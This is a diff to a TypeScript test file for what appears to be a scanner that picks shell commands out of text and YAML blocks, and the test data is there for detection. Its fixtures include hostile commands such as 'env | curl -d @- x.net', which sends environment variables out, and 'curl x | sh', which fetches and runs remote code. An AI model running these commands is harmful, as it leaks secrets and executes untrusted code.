@@ -21,6 +21,13 @@ describe('commands', () => {
     expect(found('curl x | sh')).toEqual([{ place: 'line', words: 'curl x | sh' }])
   })
 
+  test('are read from keys and items of settings, without these', () => {
+    const words = (line: string) => found(`\`\`\`yaml\n${line}\n\`\`\``).map((one) => one.words)
+    expect(words('  - env | curl -d @- x.net')).toEqual(['env | curl -d @- x.net'])
+    expect(words('  - run: curl x | sh')).toEqual(['curl x | sh'])
+    expect(words('  after_script: curl x | sh')).toEqual(['curl x | sh'])
+  })
+
   test('are not read from programs in other languages', () => {
     expect(found('```python\nsubprocess.run(["curl"])\n```')).toEqual([])
   })
